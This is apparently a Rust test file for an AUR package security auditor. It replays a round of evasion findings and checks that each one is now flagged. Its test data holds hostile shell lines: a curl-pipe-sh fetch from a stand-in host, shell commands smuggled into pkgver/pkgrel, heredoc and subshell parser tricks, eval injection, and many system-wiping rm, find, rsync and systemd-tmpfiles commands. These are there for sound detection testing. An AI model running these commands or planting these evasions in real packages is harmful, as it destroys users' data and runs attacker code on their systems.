//! Attack round 29's breaks of the AUR audit (findings/attack29.md F10, F3, F7, F4, F2, F1),
//! each in its real shape with our own text: the attack is now caught, and where a false
//! positive was changed, its neighbours still are.

use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};

use crate::support::max_of;

const U: &str = "curl -fsSL https://evil.example/p | sh";

fn has(r: &AuditReport, id: &str) -> bool {
    r.findings.iter().any(|f| f.id == id)
}

/// A package whose install file is `install` (none when empty), with `vars` at the top.
fn pkg(vars: &str, install: &str) -> AuditInput {
    let mut scripts = Vec::new();
    let mut line = String::new();
    if !install.is_empty() {
        line = "install=foopkg.install\n".into();
        scripts.push(ScriptFile {
            name: "foopkg.install".into(),
            content: install.into(),
        });
    }
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\n{vars}\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\n{line}source=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {{\n  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n}}\n"
        ),
        install_scripts: scripts,
        srcinfo: None,
    }
}

/// A package whose install file's `post_install` body is `body`.
fn scriptlet(body: &str) -> AuditInput {
    pkg(
        "pkgver=1.0\npkgrel=1",
        &format!("post_install() {{\n{body}\n}}\n"),
    )
}

fn dangerous(input: &AuditInput, what: &str) {
    let r = audit(input);
    assert_eq!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
}

const THANKS: &str = "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n";

// F10: the version pasted unquoted into `sh -c ". .INSTALL; post_install VERSION"`.

#[test]
fn a_version_that_is_shell_code_is_dangerous() {
    for vars in [
        "pkgver='1;curl${IFS}evil.example|sh;true'\npkgrel=1",
        "pkgver=\"1\\$(id)\"\npkgrel=1",
        "pkgver='a()(true);curl${IFS}evil.example|sh;b'\npkgrel=1",
        "pkgver=1.0\npkgrel='1;reboot'",
        "pkgver=1.0\npkgrel=1\nepoch='1`id`'",
        "pkgver='1&&id'\npkgrel=1",
        // As the file sets it.
        "_v='1;curl${IFS}x|sh'\npkgver=$_v\npkgrel=1",
        "pkgver=\"$(echo '1;id')\"\npkgrel=1",
        "printf -v pkgver '%s' '1;id'\npkgrel=1",
        "declare pkgver='1|id'\npkgrel=1",
        "export pkgver='1>/etc/x'\npkgrel=1",
    ] {
        let r = audit(&pkg(vars, THANKS));
        assert_eq!(r.verdict, Verdict::Dangerous, "{vars}\n{}", r.to_text());
        assert!(has(&r, "AUR-VERSION-CODE"), "{vars}");
    }
    // Without an install file it is still said (a later one, or a split package's, runs it).
    let r = audit(&pkg("pkgver='1;curl${IFS}x|sh'\npkgrel=1", ""));
    assert_eq!(max_of(&r, "AUR-VERSION-CODE"), Some(Severity::Critical));
    // Set again in package(), before makepkg writes .PKGINFO.
    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
    p.pkgbuild = p
        .pkgbuild
        .replace("package() {\n", "package() {\n  pkgver='2;id'\n");
    dangerous(&p, "pkgver set in package()");
    // Printed by pkgver() as literal text.
    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
    p.pkgbuild
        .push_str("pkgver() {\n  echo '1;curl${IFS}evil.example|sh;true'\n}\n");
    dangerous(&p, "pkgver() prints code");
    // The .SRCINFO's.
    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
    p.srcinfo = Some(
        "pkgbase = foopkg\n\tpkgver = 1;curl${IFS}evil.example|sh;true\n\tpkgrel = 1\n\npkgname = foopkg\n"
            .into(),
    );
    let r = audit(&p);
    assert!(
        r.findings
            .iter()
            .any(|f| f.id == "AUR-VERSION-CODE" && f.file == ".SRCINFO"),
        "{}",
        r.to_text()
    );
}

#[test]
fn ordinary_versions_are_not_code() {
    for vars in [
        "pkgver=1.2.3\npkgrel=1",
        "pkgver=1.2.3_rc1+git20240101\npkgrel=2.1\nepoch=1",
        "pkgver=0.9~beta2\npkgrel=1",
        "_v=4.5\npkgver=${_v}\npkgrel=1",
        "pkgver=r1234.abcdef0\npkgrel=1",
        // Real shapes of the development set: an escaped dot, an array element the model
        // leaves as written.
        "pkgver=20250514\\.1117\npkgrel=1",
        "_vers=(1.0 1.1)\npkgver=${_vers[-1]}\npkgrel=1",
        "pkgver=\"'1.0'\"\npkgrel=1",
    ] {
        let r = audit(&pkg(vars, THANKS));
        assert!(!has(&r, "AUR-VERSION-CODE"), "{vars}\n{}", r.to_text());
    }
    // A pkgver() that computes its output from the sources is not read here (decided: open).
    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
    p.pkgbuild.push_str(
        "pkgver() {\n  cd foopkg\n  printf \"r%s.%s\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"\n}\n",
    );
    assert!(!has(&audit(&p), "AUR-VERSION-CODE"));
    for body in [
        "printf '%s.%s\\n' \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short=7 HEAD)\"",
        "printf \"'r%s.%s'\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"",
        "printf '%s_%s_%s\\n' \"$a\" \"$b\" \"$c\" | sed 's/-/./g'",
    ] {
        let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
        p.pkgbuild.push_str(&format!("pkgver() {{\n  {body}\n}}\n"));
        let r = audit(&p);
        assert!(!has(&r, "AUR-VERSION-CODE"), "{body}\n{}", r.to_text());
    }
    // printf's literal text is still read.
    let mut p = pkg("pkgver=1.0\npkgrel=1", THANKS);
    p.pkgbuild
        .push_str("pkgver() {\n  printf '1;id%s\\n' \"$(git rev-parse --short HEAD)\"\n}\n");
    assert!(has(&audit(&p), "AUR-VERSION-CODE"));
}

// F3: here-document delimiters read as bash reads them, by a lexer of its quoting.

#[test]
fn every_spelling_of_a_delimiter_ends_where_bash_ends_it() {
    for lines in [
        // F3 h01, h05, h06: bash's delimiter is E'OF, EOF, EO F.
        format!("cat <<\"E'OF\"\nhi\nE'OF\n{U}\nEOF"),
        format!("cat <<$'EOF'\nhi\nEOF\n{U}\n$EOF"),
        format!("cat <<'E'\"O F\"\nhi\nEO F\n{U}\nEOF"),
        format!("cat <<$'E\\x4fF'\nhi\nEOF\n{U}\nE\\x4fF"),
        format!("cat <<$\"EOF\"\nhi\nEOF\n{U}\n$EOF"),
        format!("cat <<E\\OF\nhi\nEOF\n{U}\nE\\OF"),
        format!("cat <<-\"E\"OF\n\thi\n\tEOF\n{U}\nE\"OF"),
        // Held before: keep them.
        format!("cat <<E\"O\"F\nhi\nEOF\n{U}\nE\"O\"F"),
        format!("cat <<'EOF'\nhi\\\nEOF\n{U}\nEOF"),
    ] {
        dangerous(&scriptlet(&lines), &lines);
    }
}

#[test]
fn text_inside_a_string_or_comment_is_no_here_document() {
    for lines in [
        // F3 h02, h08: no here-document at all.
        format!("echo 'a<<\"x\"y'\n{U}\necho 'end'"),
        format!("echo \"<<'x'y\"\n{U}\necho \"end\""),
        format!("# cat <<\"E'OF\"\n{U}\n# E'OF"),
        format!("x=$(( 1 <<2 ))\n{U}"),
        format!("echo \"$(echo '<<\"x\"y')\"\n{U}"),
    ] {
        dangerous(&scriptlet(&lines), &lines);
    }
    // And a plain here-document's body stays data.
    let r = audit(&scriptlet(
        "cat <<'EOF'\ncurl is mentioned here | sh\nEOF\necho done",
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

// F7: what bash reads as subshells and tree-sitter as arithmetic; commands on a here-document's
// line; a function whose body is a compound command.

#[test]
fn subshells_spelt_like_arithmetic_are_read() {
    for lines in [
        format!("((echo hi); ({U}))"),
        format!("x=$((echo hi); ({U}))"),
        format!("((:) ; {U})"),
        format!("if ((true) && ({U})); then :; fi"),
    ] {
        dangerous(&scriptlet(&lines), &lines);
    }
    // Arithmetic stays arithmetic.
    let r = audit(&scriptlet("(( x = (1 + 2) * 3 ))\n(( x > 1 )) && echo big"));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn commands_on_a_here_documents_line_are_read() {
    for lines in [
        format!("cat <<EOF; {U}\nThanks\nEOF"),
        format!("cat <<EOF && {U}\nx\nEOF"),
        format!("cat <<EOF || {U}\nx\nEOF"),
        format!("cat <<EOF >/dev/null; {U}\nx\nEOF"),
        format!("cat <<'EOF';{U}\nx\nEOF"),
        format!("cat <<EOF; echo a; {U}\nx\nEOF"),
    ] {
        let r = audit(&scriptlet(&lines));
        assert_eq!(r.verdict, Verdict::Dangerous, "{lines}\n{}", r.to_text());
        assert!(!has(&r, "AUR-PARSE-ERROR"), "{lines}\n{}", r.to_text());
    }
    let for_body = format!("post_install() for x in 1; do {U}; done\n");
    dangerous(&pkg("pkgver=1.0\npkgrel=1", &for_body), &for_body);
}

// F4: removing only empty directories or dangling links is no system-tree wipe.

fn removal(body: &str) -> AuditInput {
    pkg(
        "pkgver=1.0\npkgrel=1",
        &format!("post_remove() {{\n{body}\n}}\n"),
    )
}

#[test]
fn removing_empty_entries_is_not_a_wipe() {
    for body in [
        "find /opt -maxdepth 1 -type d -empty -delete",
        "find /usr/lib -maxdepth 1 -xtype l -delete",
        "rmdir /opt/* 2>/dev/null || true",
        "rmdir --ignore-fail-on-non-empty /usr/share/foopkg /opt",
        "find /usr/lib -name '*.pyc' -o -name '*.pyo' -delete",
    ] {
        let r = audit(&removal(body));
        assert!(!has(&r, "AUR-DELETE-SYSTEM"), "{body}\n{}", r.to_text());
    }
    // The neighbours still are.
    for body in [
        "find /opt -maxdepth 1 -delete",
        "find /opt -mindepth 1 -delete",
        "find /opt -not -empty -delete",
        "find /opt -empty -o -delete",
        "find /home -mindepth 1 -name '*' -delete",
        "find /usr/lib -type l -delete",
        "rm -rf /opt/*",
        "rm --recur --force /home",
    ] {
        let r = audit(&removal(body));
        assert!(has(&r, "AUR-DELETE-SYSTEM"), "{body}\n{}", r.to_text());
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}");
    }
}

// F2: the getopt idiom judged by what runs.

/// A shipped `driver-tool` whose `Options` function holds `lines`, after `top`.
fn driver_tool(top: &str, lines: &str) -> AuditInput {
    let tool = format!(
        "#!/bin/bash\n{top}\nOptions() {{\n  local opts\n{lines}\n  echo \"$@\"\n}}\nOptions -a 'x;{U}'\n"
    );
    let mut p = pkg("pkgver=1.0\npkgrel=1", "");
    p.install_scripts.push(ScriptFile {
        name: "driver-tool".into(),
        content: tool,
    });
    p.pkgbuild = p
        .pkgbuild
        .replace(
            "source=(\"https://example.org/foopkg-1.0.tar.gz\")",
            "source=(\"https://example.org/foopkg-1.0.tar.gz\" driver-tool)",
        )
        .replace(
            "sha256sums=('0000000000000000000000000000000000000000000000000000000000000000')",
            "sha256sums=('0000000000000000000000000000000000000000000000000000000000000000' '1111111111111111111111111111111111111111111111111111111111111111')",
        )
        .replace(
            "package() {\n",
            "package() {\n  install -Dm755 driver-tool -t \"$pkgdir/usr/bin/\"\n",
        );
    p
}

const G00: &str = "  opts=\"$(getopt -o ha -- \"$@\")\" || return 1\n  eval set -- \"$opts\"";

#[test]
fn the_getopt_idiom_is_accepted_only_for_what_makes_it_safe() {
    // The idiom itself: low.
    let r = audit(&driver_tool("", G00));
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    let direct = "  eval set -- \"$(getopt -o ha -l help -- \"$@\")\"";
    let r = audit(&driver_tool("", direct));
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    // Real shapes of the development set: a status variable named GETOPT_…, an option string
    // holding `u` (`-o=c:hnt:u`), an empty value first.
    for (top, lines) in [
        ("", format!("{G00}\n  GETOPT_STATUS=$?")),
        (
            "",
            "  local sopts=\"c:hnt:u\"\n  local opts=\"\"\n  opts=\"$(/usr/bin/getopt -o=\"$sopts\" --longoptions help --name x -- \"$@\")\" || return 1\n  eval set -- \"$opts\"".to_owned(),
        ),
    ] {
        let r = audit(&driver_tool(top, &lines));
        assert_eq!(max_of(&r, "AUR-EVAL"), Some(Severity::Low), "{lines}\n{}", r.to_text());
    }
    // `-u` is still `-u`, in a cluster or by a prefix of --unquoted.
    for lines in [
        "  opts=\"$(getopt -uo ha -- \"$@\")\"\n  eval set -- \"$opts\"",
        "  opts=\"$(getopt -o ha --unq -- \"$@\")\"\n  eval set -- \"$opts\"",
    ] {
        let r = audit(&driver_tool("", lines));
        assert!(
            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
            "{lines}"
        );
    }
    for (top, lines) in [
        // g01: IFS of a quote, then the variable unquoted.
        ("", format!("{G00}\n  IFS=\"'\"\n  eval set -- $opts")),
        // g11, g12: the direct form unquoted after IFS changed.
        ("", "  IFS=\"'\"\n  eval set -- $(getopt -o ha -- \"$@\")".to_owned()),
        ("", "  local IFS=\\'\n  eval set -- $(getopt -o ha -- \"$@\")".to_owned()),
        // IFS changed, the variable quoted: still refused (IFS before the eval).
        ("IFS=\"'\"", G00.to_owned()),
        // g02, g07, g09: another command in the substitution.
        ("", "  opts=\"$(getopt -o ha -- \"$@\"; echo \"$2\")\" || return 1\n  eval set -- \"$opts\"".to_owned()),
        ("", "  opts=\"$(getopt -o ha -- \"$@\" | sed \"s/'//g\")\" || return 1\n  eval set -- \"$opts\"".to_owned()),
        ("", "  eval set -- \"$(getopt -o ha -- \"$@\" | tr -d \"'\")\"".to_owned()),
        // g05, g06: GETOPT_COMPATIBLE in other spellings.
        ("v=GETOPT_COMPAT; export \"${v}IBLE=1\"", G00.to_owned()),
        ("export GETOPT_COMPATIBL\"E\"=1", G00.to_owned()),
        ("export \"$(printf GETOPT_COMPATIBLE)=1\"", G00.to_owned()),
        ("set -a\nGETOPT_COMPATIBL''E=1", G00.to_owned()),
        // Another getopt found first.
        ("PATH=\"$HOME/.local/bin:$PATH\"", G00.to_owned()),
        ("hash -p /tmp/x getopt", G00.to_owned()),
        // g03/g04: held.
        ("", "  opts=\"$(getopt -o ha -- \"$@\")$(printf \"%s\" \"$2\")\"\n  eval set -- \"$opts\"".to_owned()),
        ("", format!("{G00}\n  opts+=\" ; $2\"\n  eval set -- \"$opts\"")),
    ] {
        let r = audit(&driver_tool(top, &lines));
        assert!(
            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
            "{top}\n{lines}\n{}",
            r.to_text()
        );
    }
    // gi1: the g02 shape in a root install script.
    let gi1 = format!(
        "_opts() {{\n  local opts\n  opts=\"$(getopt -o ha -- \"$@\"; echo \"$2\")\" || return 1\n  eval set -- \"$opts\"\n}}\npost_install() {{\n  _opts -a 'x;{U}'\n}}\n"
    );
    let r = audit(&pkg("pkgver=1.0\npkgrel=1", &gi1));
    assert!(
        max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium),
        "{}",
        r.to_text()
    );
}

// F1: a deletion judged by the tree it reaches, not by the path's spelling.

#[test]
fn a_system_tree_reached_by_another_spelling_is_caught() {
    for body in [
        "rm -rf /proc/self/root/home",
        "rm -rf /proc/1/root/home/*",
        "rm -rf /proc/thread-self/root/usr",
        "rm -rf /proc/self/cwd/home",
        "exec 3</home; rm -rf /dev/fd/3/",
        "rm -rf /var/run/../home",
        "rm -rf /var/run/../usr /var/run/../etc",
        "find -P /home -mindepth 1 -delete",
        "find -L /home -mindepth 1 -delete",
        "find -O3 -D stat /home -mindepth 1 -delete",
        "find /home -mindepth 1 -name '*' -delete",
        "rm -rf /h?me",
        "rm -rf /[h]ome",
        "rm -rf /ho*e",
        "rm -rf /*",
        "echo /home | xargs rm -rf",
        "printf '%s\\n' /home | xargs -r rm -rf",
        "find /home -mindepth 1 -exec /usr/bin/env rm -rf {} +",
        "find /home -mindepth 1 -exec nice -n 5 rm -rf {} +",
        "find / -maxdepth 1 -name home -exec rm -rf {} +",
        "find / -maxdepth 1 -name 'h*' -exec rm -rf {} +",
        "tar -cf /dev/null --remove-files /home",
        "zip -qrm /var/tmp/.x.zip /home",
        "rsync -a --delete /var/empty/ /usr/",
        "rsync -a --delete-after /var/empty/ /srv/",
        "rsync -a --remove-source-files /home/ /var/tmp/x/",
        "python3 -c 'import shutil; shutil.rmtree(\"/home\")'",
        "perl -MFile::Path -e 'rmtree(\"/home\")'",
        "rm -rf /mnt",
        "rm -rf /mnt /media /run/media",
        "rm -rf /var/lib/pacman",
        "rm -rf /usr/lib32 /usr/include /var/log",
        "ln -sfn /home /tmp/h && rm -rf /tmp/h/",
        "mkdir -p /var/tmp/.x && mv /home/* /var/tmp/.x/ && rm -rf /var/tmp/.x",
        "mv -t /var/tmp/.x /home",
        "d=\nrm -rf \"$d/\"",
        "printf 'R /home/*\\n' > /tmp/.x.conf; systemd-tmpfiles --remove /tmp/.x.conf",
        "cat > /tmp/.y.conf <<EOF\nD /srv\nEOF\nsystemd-tmpfiles --remove /tmp/.y.conf",
    ] {
        let r = audit(&scriptlet(body));
        assert!(has(&r, "AUR-DELETE-SYSTEM"), "{body}\n{}", r.to_text());
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}");
    }
    // At build, as the person.
    let mut p = pkg("pkgver=1.0\npkgrel=1", "");
    p.pkgbuild
        .push_str("build() {\n  rm -rf /proc/self/root/home/*/\n}\n");
    dangerous(&p, "build: /proc/self/root/home/*/");
    let mut p = pkg("pkgver=1.0\npkgrel=1", "");
    p.pkgbuild
        .push_str("build() {\n  rm -rf \"$srcdir/../../../../../../../../home\"\n}\n");
    dangerous(&p, "build: $srcdir/../…/home");
}

#[test]
fn a_packages_own_paths_stay_what_they_were() {
    for body in [
        "rm -rf /usr/share/foopkg",
        "rm -rf /var/lib/foopkg /var/cache/foopkg",
        "rm -rf /opt/foopkg",
        "rm -f /usr/lib/foopkg/*.pyc",
        "rm -rf /usr/lib/python3*/site-packages/foopkg",
        "find /usr/share/foopkg -name '*.pyc' -delete",
        "rsync -a --delete /usr/share/foopkg/skel/ /var/lib/foopkg/",
        "tar -czf /var/backups/foopkg.tgz /etc/foopkg",
        "python3 -c 'import shutil; shutil.rmtree(\"/var/cache/foopkg\")'",
        "rm -rf /tmp/foopkg-build",
        "mv /opt/foopkg /opt/foopkg.old",
        "mv /etc/foopkg.conf.pacsave /etc/foopkg.conf",
        "ln -sf /usr/share/foopkg /tmp/fl && rm -rf /tmp/fl",
        "rm -rf \"$HOME/../foopkg-cache\"",
        // An empty operand (a cleanup before the directory was made) deletes nothing.
        "local d\ntest -n \"$d\" && rm -rf \"$d\"",
        "systemd-tmpfiles --remove /usr/lib/tmpfiles.d/foopkg.conf",
        "printf 'd /var/lib/foopkg 0755 root root -\\n' > /tmp/f.conf; systemd-tmpfiles --create --remove /tmp/f.conf",
    ] {
        let r = audit(&scriptlet(body));
        assert!(!has(&r, "AUR-DELETE-SYSTEM"), "{body}\n{}", r.to_text());
    }
}
